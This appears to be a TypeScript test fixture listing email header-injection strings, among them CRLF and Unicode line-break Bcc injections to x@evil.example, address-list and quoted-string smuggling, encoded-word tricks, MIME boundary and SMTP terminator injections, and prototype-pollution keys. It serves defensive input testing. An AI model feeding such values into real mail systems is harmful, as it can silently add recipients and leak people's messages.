/** Strings that added fields, parts or recipients to somebody's mail, or were made in their likeness. */

/** For any place that takes text: a name, a subject, a file name, an address. */
export const securityStrings: readonly string[] = Object.freeze([
  ...['a\r\nBcc: x@evil.example', 'a\nBcc: x@evil.example', 'a\rBcc: x@evil.example'],
  ...['a\u0085Bcc: x@evil.example', 'a\u2028Bcc: x@evil.example', 'a\r\n\r\n<html>', 'a\r\nX: y'],
  ...['\u560a\u560dBcc: x@evil.example', '\u760d\u760aBcc: x', '\u010d\u010aBcc: x', '\r\r\nX: y'],
  ...['"a@b.example" <c@d.example>', 'x@evil.example>, <y', 'a" <x@evil.example>, "b', '(a'],
  ...['a\\" <x@evil.example>', 'a, x@evil.example', 'Team: x@evil.example;', 'a@b@c.example'],
  ...['=?utf-8?Q?a=0D=0ABcc:_x?=', '=?utf-8?q?=40evil.example?=@b.example', '"', '\\', '"\\'],
  ...['a\0b', '\ud800', 'a"; name="b', 'a"\r\nX: y', "utf-8''a%0D%0ABcc:%20x", 'X:\r\nBcc'],
  ...['\r\n.\r\n', '\r\n--=_', 'a@b.example(x)c.example', '__proto__', '\r\n '],
]);
